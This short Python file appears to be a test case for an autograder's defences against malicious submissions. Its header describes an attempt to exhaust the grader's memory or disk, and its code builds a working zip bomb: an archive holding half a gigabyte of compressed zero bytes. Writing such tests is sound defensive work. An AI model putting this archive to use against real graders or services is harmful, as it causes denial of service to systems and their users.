# /// attack
# tries = "all memory or disk of the grader, by a notebook that unpacks to a gigabyte"
# layer = "hand-ins"
# stopped_by = "what grows out of proportion is not unpacked, and nothing is written to a disk"
# status = "unreadable"
# ///
from __future__ import annotations

import zipfile
from pathlib import Path


def make(folder: Path, honest: str) -> None:
    """Write it."""
    with (
        zipfile.ZipFile(folder / "walls.zip", "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("walls.py", "w") as file,
    ):
        for _ in range(512):
            file.write(bytes(1 << 20))
